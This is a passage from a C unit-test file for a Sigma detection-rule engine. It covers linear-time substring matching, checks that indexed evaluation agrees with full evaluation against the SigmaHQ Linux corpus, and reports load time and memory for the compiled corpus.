    assert_int_equal(st.candidates, 2);
    ds_engine_destroy(eng);
    for (size_t i = 0; i < 1024; i++)
        free(vals[i]);
}

/* A contains literal that repeats itself ("aaa...ab", 2 KiB, from a rule)
 * against a value of "aaa...ab" (the attacker's): the index lets the rule
 * through (the literal is there, at the end), and the naive search cost
 * 4 million comparisons per rule. CPU time, as above. */
static void test_contains_linear(void **state)
{
    (void)state;
    struct ds_engine *eng = engine(&(struct ds_engine_opts){0});
    static char lit[2049], y[4096];
    memset(lit, 'a', 2047);
    lit[2047] = 'b';
    for (int i = 0; i < 20; i++) {
        snprintf(
            y, sizeof y,
            "title: r%d\nid: 00000000-0000-0000-0000-%012d\n" LNX(
                "process_creation") "detection:\n    sel:\n        CommandLine|contains: '%s'\n"
                                    "    condition: sel\n",
            i, i, lit);
        add_ok(eng, "r.yml", y);
    }
    assert_int_equal(ds_engine_build(eng), 0);
    static char cmd[4097];
    memset(cmd, 'A', 4095);
    cmd[4095] = 'B';
    struct timespec t0, t1;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t0);
    struct fev e;
    struct hits h;
    struct ds_eval_stats st;
    struct ds_view v = fev_make(&e, eng, "process.command_line", cmd, NULL);
    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st),
                        "r0,r1,r2,r3,r4,r5,r6,r7,r8,r9,r10,r11,r12,r13,r14,r15,r16,r17,r18,r19");
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t1);
    double ms = (double)(t1.tv_sec - t0.tv_sec) * 1e3 + (double)(t1.tv_nsec - t0.tv_nsec) / 1e6;
    printf("contains of a 2 KiB periodic literal, 20 rules, one 4 KiB event: %.2f ms of CPU\n", ms);
    assert_true(ms < 50.0);
    ds_engine_destroy(eng);
}

/* ---- the public corpus (solo tests: they need RP_SIGMA_CORPUS) ---- */

#ifndef RP_SIGMA_CORPUS
#define RP_SIGMA_CORPUS "/work/shared/corpus/sigma"
#endif

/* What the collectors fill per event type: a copy of the provides lists of
 * plugins/collector_process, collector_file and collector_network (the
 * fields a Sigma rule can name; bookkeeping fields left out). */
static const char *const filled_common_proc[] = {"process.pid",
                                                 "process.entity_id",
                                                 "process.executable",
                                                 "process.name",
                                                 "process.command_line",
                                                 "process.parent.pid",
                                                 "user.id",
                                                 "user.name",
                                                 "group.id",
                                                 "group.name",
                                                 "user.effective.id",
                                                 "user.effective.name",
                                                 NULL};
static const char *const filled_exec[] = {"process.args",
                                          "process.args_count",
                                          "process.working_directory",
                                          "process.parent.executable",
                                          "process.parent.name",
                                          "process.parent.command_line",
                                          "container.id",
                                          "process.hash.sha256",
                                          NULL};
static const char *const filled_common_file[] = {
    "file.path",    "file.name",   "file.directory",    "file.extension",
    "file.type",    "process.pid", "process.entity_id", "process.executable",
    "process.name", "user.id",     "user.name",         NULL};
static const char *const filled_file_stat[] = {"file.size", "file.inode", "file.mode", "file.uid",
                                               "file.gid",  "file.owner", NULL};
static const char *const filled_rename[] = {"collector_file.original.path",
                                            "collector_file.original.name", NULL};
static const char *const filled_common_net[] = {"destination.ip",
                                                "destination.port",
                                                "network.direction",
                                                "network.transport",
                                                "network.iana_number",
                                                "network.type",
                                                "user.id",
                                                "process.pid",
                                                "process.executable",
                                                "process.name",
                                                "process.entity_id",
                                                "source.ip",
                                                "source.port",
                                                NULL};

static bool in_list(const char *const *l, const char *field)
{
    for (size_t i = 0; l && l[i]; i++)
        if (strcmp(l[i], field) == 0)
            return true;
    return false;
}

static int provides_filled(void *ctx, int type, const char *field)
{
    (void)ctx;
    switch (type) {
    case DS_EV_PROCESS_EXEC:
        return in_list(filled_common_proc, field) || in_list(filled_exec, field);
    case DS_EV_FILE_CREATE:
    case DS_EV_FILE_MODIFY:
        return in_list(filled_common_file, field) || in_list(filled_file_stat, field);
    case DS_EV_FILE_RENAME:
        return in_list(filled_common_file, field) || in_list(filled_file_stat, field) ||
               in_list(filled_rename, field);
    case DS_EV_FILE_DELETE:
        return in_list(filled_common_file, field);
    case DS_EV_NETWORK_CONNECT:
    case DS_EV_NETWORK_ACCEPT:
        return in_list(filled_common_net, field);
    default:
        return 0;
    }
}

static const char *corpus_dir(void)
{
    const char *dir = getenv("RP_SIGMA_CORPUS");
    if (!dir || !*dir)
        dir = RP_SIGMA_CORPUS;
    struct stat st;
    if (stat(dir, &st) != 0 || !S_ISDIR(st.st_mode)) {
        static char why[600];
        snprintf(why, sizeof(why),
                 "no Sigma corpus at %s (set RP_SIGMA_CORPUS to the SigmaHQ rules tree)", dir);
        tu_skip(why);
    }
    return dir;
}

static double now_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
}

/* Values the corpus rules look for, per ECS field, to build events that
 * match some of them. */
#define HARVEST_MAX 4096
struct harvest {
    const char *ecs[16];
    char *vals[16][HARVEST_MAX];
    unsigned n[16];
    unsigned nfields;
};

static void harvest_value(struct harvest *hv, const char *ecs, const char *v, size_t len)
{
    unsigned f = 0;
    while (f < hv->nfields && strcmp(hv->ecs[f], ecs) != 0)
        f++;
    if (f == hv->nfields) {
        if (f == 16)
            return;
        hv->ecs[hv->nfields++] = ecs;
    }
    if (hv->n[f] >= HARVEST_MAX)
        return;
    /* Wildcards become nothing or one character, as a value that matches
     * them might have. */
    char *copy = malloc(len + 1);
    assert_non_null(copy);
    size_t o = 0;
    for (size_t i = 0; i < len; i++) {
        if (v[i] == '*')
            continue;
        copy[o++] = v[i] == '?' ? 'a' : v[i];
    }
    copy[o] = '\0';
    hv->vals[f][hv->n[f]++] = copy;
}

static void harvest_rule(struct harvest *hv, const struct ds_rule *r)
{
    struct ds_fieldmap *m = NULL;
    assert_int_equal(ds_fieldmap_create(&m), 0);
    for (uint32_t s = 0; s < r->n_sels; s++)
        for (uint32_t g = 0; g < r->sels[s].n_groups; g++)
            for (uint32_t c = 0; c < r->sels[s].groups[g].n_conds; c++) {
                const struct ds_field_cond *fc = &r->sels[s].groups[g].conds[c];
                if (!fc->spec.field)
                    continue;
                const char *ecs =
                    ds_fieldmap_get(m, r->logsource, fc->spec.field, fc->spec.field_len, NULL);
                /* Only names of the built-in table (static strings). */
                if (!ecs || !*ecs || ecs == fc->spec.field)
                    continue;
                if (fc->spec.mask & (DS_MODBIT(DS_MOD_RE) | DS_MODBIT(DS_MOD_BASE64) |
                                     DS_MODBIT(DS_MOD_BASE64OFFSET)))
                    continue;
                for (uint32_t v = 0; v < fc->n_values; v++)
                    if (fc->values[v].kind == DS_VAL_STRING || fc->values[v].kind == DS_VAL_INT)
                        harvest_value(hv, ecs, fc->values[v].s, fc->values[v].len);
            }
    ds_fieldmap_destroy(m);
}

static int harvest_visit(struct harvest *hv, const char *dir)
{
    DIR *d = opendir(dir);
    if (!d)
        return -1;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        char p[4096];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        struct stat st;
        if (lstat(p, &st) != 0)
            continue;
        if (S_ISDIR(st.st_mode)) {
            harvest_visit(hv, p);
            continue;
        }
        size_t l = strlen(p);
        if (l < 5 || strcmp(p + l - 4, ".yml") != 0)
            continue;
        struct ds_rule *r = NULL;
        struct ds_load_result res;
        if (ds_rule_load_file(p, &r, &res) == 0 && r) {
            harvest_rule(hv, r);
            ds_rule_destroy(r);
        }
    }
    closedir(d);
    return 0;
}

/* Benign values of a desktop, for the fields harvest has nothing for and
 * for most events. */
static const char *const benign[] = {
    "/usr/bin/ls",
    "/usr/bin/bash",
    "/usr/lib/firefox/firefox",
    "ls --color=auto -la",
    "bash -c 'make -j2'",
    "python3 /home/u/bin/sync.py",
    "/home/u/.cache/x.tmp",
    "/tmp/tmp.Xa12b/file",
    "www.example.org",
    "443",
    "93.184.216.34",
    "/home/u/src",
};

static struct ds_view corpus_event(struct fev *e, const struct ds_engine *eng, int t,
                                   const struct harvest *hv, char vals[][512])
{
    struct ds_view v = fev_make(e, eng, NULL);
    size_t n = 0;
    for (unsigned f = 0; f < hv->nfields && n < 2 * FEV_MAX - 2; f++) {
        if (!provides_filled(NULL, t, hv->ecs[f]) || rnd(4) == 0)
            continue;
        if (hv->n[f] && rnd(3) == 0) {
            const char *x = hv->vals[f][rnd(hv->n[f])];
            const char *pre = rnd(2) ? "" : benign[rnd(12)];
            const char *post = rnd(2) ? "" : benign[rnd(12)];
            snprintf(vals[f], 512, "%s%s%s", pre, x, post);
        } else {
            snprintf(vals[f], 512, "%s", benign[rnd(12)]);
        }
        e->kv[n++] = hv->ecs[f];
        e->kv[n++] = vals[f];
    }
    e->kv[n] = NULL;
    return v;
}

static void test_corpus_index_equals_full(void **state)
{
    (void)state;
    const char *dir = corpus_dir();
    char linux_dir[1024], own[1024], err[512];
    snprintf(linux_dir, sizeof linux_dir, "%s/rules/linux", dir);
    snprintf(own, sizeof own, "%s/config/rules/sigma", RP_SOURCE_DIR);
    struct ds_engine_opts with = {.filled = provides_filled},
                          without = {.filled = provides_filled, .no_index = true};
    struct ds_engine *ix = engine(&with), *full = engine(&without);
    assert_int_equal(ds_engine_add_dir(ix, linux_dir, NULL, NULL, NULL, err, sizeof err), 0);
    assert_int_equal(ds_engine_add_dir(full, linux_dir, NULL, NULL, NULL, err, sizeof err), 0);
    struct stat st;
    bool has_own = stat(own, &st) == 0 && S_ISDIR(st.st_mode);
    if (has_own) {
        assert_int_equal(ds_engine_add_dir(ix, own, NULL, NULL, NULL, err, sizeof err), 0);
        assert_int_equal(ds_engine_add_dir(full, own, NULL, NULL, NULL, err, sizeof err), 0);
    }
    assert_int_equal(ds_engine_build(ix), 0);
    assert_int_equal(ds_engine_build(full), 0);
    assert_true(ds_engine_rule_count(ix) > 100);
    struct harvest *hv = calloc(1, sizeof(*hv));
    assert_non_null(hv);
    harvest_visit(hv, linux_dir);
    if (has_own)
        harvest_visit(hv, own);
    rng_state = 0x2545f4914f6cdd1dull;
    static const int types[] = {DS_EV_PROCESS_EXEC,  DS_EV_FILE_CREATE, DS_EV_FILE_MODIFY,
                                DS_EV_FILE_RENAME,   DS_EV_FILE_DELETE, DS_EV_NETWORK_CONNECT,
                                DS_EV_NETWORK_ACCEPT};
    unsigned long matches = 0, cand_ix = 0, cand_full = 0;
    const unsigned N = 30000;
    static char vals[16][512];
    for (unsigned n = 0; n < N; n++) {
        int t = types[rnd(7)];
        struct fev e;
        struct ds_view v = corpus_event(&e, ix, t, hv, vals);
        struct hits h1, h2;
        struct ds_eval_stats s1, s2;
        eval_titles(ix, t, &v, &h1, &s1);
        e.eng = full;
        eval_titles(full, t, &v, &h2, &s2);
        if (strcmp(h1.titles, h2.titles) != 0) {
            char ev[2048] = "";
            for (size_t i = 0; e.kv[i]; i += 2)
                cat(ev, sizeof ev, "%s=%s; ", e.kv[i], e.kv[i + 1]);
            fail_msg("event %u (%s): index [%s], full [%s]", n, ev, h1.titles, h2.titles);
        }
        matches += s1.matched;
        cand_ix += s1.candidates;
        cand_full += s2.candidates;
    }
    printf("corpus Linux rules%s: %u rules, %u events: %lu matches; rules tested per event "
           "%.2f with the index, %.2f without\n",
           has_own ? " and config/rules/sigma" : "", ds_engine_rule_count(ix), N, matches,
           (double)cand_ix / N, (double)cand_full / N);
    assert_true(matches > 1000);
    assert_true(cand_ix * 4 < cand_full);
    for (unsigned f = 0; f < hv->nfields; f++)
        for (unsigned i = 0; i < hv->n[f]; i++)
            free(hv->vals[f][i]);
    free(hv);
    ds_engine_destroy(ix);
    ds_engine_destroy(full);
}

/* The compile report of the whole SigmaHQ tree through the engine, with
 * the collectors' provides lists deciding what is filled. */
struct creport {
    unsigned files, by_status[4], by_reason[DS_REASON_COUNT];
    unsigned lnx[DS_LS_COUNT], lnx_loaded[DS_LS_COUNT], lnx_dead[DS_LS_COUNT],
        lnx_refused[DS_LS_COUNT];
    char dead[64][600];
    unsigned n_dead;
    char refused[16][600];
    unsigned n_refused;
};

static void creport_cb(void *ctx, const struct ds_report *rep)
{
    struct creport *c = ctx;
    c->files++;
    c->by_status[rep->status]++;
    c->by_reason[rep->reason]++;
    if (rep->status == DS_ST_DEAD && c->n_dead < 64)
        snprintf(c->dead[c->n_dead++], 600, "%s: %s", rep->path, rep->msg);
    if (!rep->linux_product)
        return;
    c->lnx[rep->logsource]++;
    if (rep->status == DS_ST_LOADED)
        c->lnx_loaded[rep->logsource]++;
    else if (rep->status == DS_ST_DEAD)
        c->lnx_dead[rep->logsource]++;
    else if (ds_reason_class(rep->reason) != DS_CLASS_SCOPE) {
        c->lnx_refused[rep->logsource]++;
        if (c->n_refused < 16)
            snprintf(c->refused[c->n_refused++], 600, "%s", rep->msg);
    }
}

static unsigned count_rule_files(const char *dir)
{
    DIR *d = opendir(dir);
    if (!d)
        return 0;
    unsigned n = 0;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
            continue;
        char p[4096];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        struct stat st;
        if (lstat(p, &st) != 0)
            continue;
        size_t l = strlen(e->d_name);
        if (S_ISDIR(st.st_mode))
            n += count_rule_files(p);
        else if ((l > 4 && strcmp(e->d_name + l - 4, ".yml") == 0) ||
                 (l > 5 && strcmp(e->d_name + l - 5, ".yaml") == 0))
            n++;
    }
    closedir(d);
    return n;
}

static size_t rss_bytes(void)
{
    FILE *f = fopen("/proc/self/statm", "r");
    if (!f)
        return 0;
    unsigned long size = 0, res = 0;
    int ok = fscanf(f, "%lu %lu", &size, &res) == 2;
    fclose(f);
    return ok ? (size_t)res * (size_t)sysconf(_SC_PAGESIZE) : 0;
}

static void test_corpus_compile_report(void **state)
{
    (void)state;
    const char *dir = corpus_dir();
    char linux_dir[1024], err[512];
    snprintf(linux_dir, sizeof linux_dir, "%s/rules/linux", dir);
    struct ds_engine_opts o = {.filled = provides_filled};

    /* The Linux rules alone: load time, engine memory and RSS added. */
    struct creport *lc = calloc(1, sizeof(*lc));
    assert_non_null(lc);
    size_t rss0 = rss_bytes();
    double t0 = now_ms();
    struct ds_engine *lnx = engine(&o);
    assert_int_equal(ds_engine_add_dir(lnx, linux_dir, NULL, creport_cb, lc, err, sizeof err), 0);
    assert_int_equal(ds_engine_build(lnx), 0);
    double lnx_ms = now_ms() - t0;
    size_t rss1 = rss_bytes();
    size_t lnx_mem = ds_engine_memory(lnx);
    uint32_t lnx_rules = ds_engine_rule_count(lnx);
    ds_engine_destroy(lnx);

    struct creport *c = calloc(1, sizeof(*c));
    assert_non_null(c);
    t0 = now_ms();
    struct ds_engine *all = engine(&o);
    assert_int_equal(ds_engine_add_dir(all, dir, NULL, creport_cb, c, err, sizeof err), 0);
    assert_int_equal(ds_engine_build(all), 0);
    double all_ms = now_ms() - t0;
    size_t all_mem = ds_engine_memory(all);

    printf("sigma engine, corpus %s:\n", dir);
    printf("  files %u: loaded %u, dead %u, skipped %u\n", c->files, c->by_status[DS_ST_LOADED],
           c->by_status[DS_ST_DEAD], c->by_status[DS_ST_SKIPPED]);
    for (int i = 1; i < DS_REASON_COUNT; i++)
        if (c->by_reason[i])
            printf("  skipped %-24s %u\n", ds_reason_name(i), c->by_reason[i]);
    printf("  product linux:       rules  loaded  dead  refused (language or input)\n");
    for (int i = 0; i < DS_LS_COUNT; i++)
        printf("    %-20s %5u  %6u  %4u  %u\n", i ? ds_logsource_name(i) : "(not collected)",
               c->lnx[i], c->lnx_loaded[i], c->lnx_dead[i], c->lnx_refused[i]);
    for (unsigned i = 0; i < c->n_dead; i++)
        printf("  dead: %s\n", c->dead[i]);
    for (unsigned i = 0; i < c->n_refused; i++)
        printf("  refused: %s\n", c->refused[i]);
    printf("  Linux rules (%s): %u compiled in %.1f ms, engine %zu KiB, RSS +%zu KiB\n", linux_dir,
           lnx_rules, lnx_ms, lnx_mem / 1024, rss1 > rss0 ? (rss1 - rss0) / 1024 : 0);
    printf("  whole tree: %u compiled in %.1f ms, engine %zu KiB\n", ds_engine_rule_count(all),
           all_ms, all_mem / 1024);
    fflush(stdout);

    /* Every file has a fate, none unreadable. */
    assert_true(c->files > 1000);
    assert_int_equal(c->files, count_rule_files(dir));
    assert_int_equal(c->by_reason[DS_SKIP_IO], 0);
    /* Every Linux rule of the collected log sources compiles: loaded or
     * reported dead, none refused for its language or input. */
    static const int ls[] = {DS_LS_PROCESS_CREATION, DS_LS_FILE_EVENT, DS_LS_NETWORK_CONNECTION};
    for (size_t i = 0; i < 3; i++) {
        assert_true(c->lnx[ls[i]] > 0);
        assert_int_equal(c->lnx_refused[ls[i]], 0);
        assert_int_equal(c->lnx_loaded[ls[i]] + c->lnx_dead[ls[i]], c->lnx[ls[i]]);
    }
    for (int i = DS_LS_NONE + 1; i < DS_LS_COUNT; i++)
        assert_int_equal(c->lnx_refused[i], 0);
    /* The dead ones say why. */
    for (unsigned i = 0; i < c->n_dead; i++)
        assert_non_null(strstr(c->dead[i], "can never match: field "));
    ds_engine_destroy(all);
    free(c);
    free(lc);
}

int main(int argc, char **argv)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_fieldmap),
        cmocka_unit_test(test_event_types),
        cmocka_unit_test(test_eval_condition),
        cmocka_unit_test(test_values_and_valuemap),
        cmocka_unit_test(test_keywords),
        cmocka_unit_test(test_fieldref_and_memo),
        cmocka_unit_test(test_can_never_match),
        cmocka_unit_test(test_compile_errors),
        cmocka_unit_test(test_any_logsource_raw_fields),
        cmocka_unit_test(test_add_dir),
        cmocka_unit_test(test_no_allocation_per_event),
        cmocka_unit_test(test_stop),
        cmocka_unit_test(test_index_equals_full_evaluation),
        cmocka_unit_test(test_index_regex_literals),
        cmocka_unit_test(test_index_constructs),
        cmocka_unit_test(test_index_repeats),
        cmocka_unit_test(test_fieldref_contains_linear),
        cmocka_unit_test(test_contains_linear),
        cmocka_unit_test(test_index_suffix_literals),
        cmocka_unit_test(test_index_past_caps),
        cmocka_unit_test(test_corpus_compile_report),
        cmocka_unit_test(test_corpus_index_equals_full),
    };
    return tu_run_tests(tests, NULL, NULL, argc, argv);
}
